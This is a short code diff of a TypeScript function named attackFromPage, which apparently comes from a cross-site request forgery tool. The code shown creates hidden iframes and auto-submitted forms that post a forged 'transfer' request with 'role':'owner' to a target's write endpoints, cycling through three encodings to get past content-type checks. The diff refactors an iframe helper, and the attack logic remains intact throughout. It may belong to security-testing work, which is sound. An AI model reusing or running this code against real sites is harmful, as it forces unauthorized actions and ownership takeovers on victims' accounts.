@@ -80,17 +80,12 @@ export async function attackFromPage(target: string): Promise<string[]> {
     }
   }
   const body = '{"kind":"transfer","title":"taken","body":{},"role":"owner"}'
-  const frame = (html: string) => {
-    const element = document.createElement('iframe')
-    element.name = `frame${document.querySelectorAll('iframe').length}`
-    element.srcdoc = html
-    document.body.append(element)
-    return element
-  }
   for (const path of writes) {
     const url = target + path
     for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
-      const holder = frame('')
+      const holder = document.createElement('iframe')
+      holder.name = `frame${document.querySelectorAll('iframe').length}`
+      document.body.append(holder)
       const form = document.createElement('form')
       Object.assign(form, { action: url, method: 'post', enctype: type, target: holder.name })
       const field = document.createElement('input')
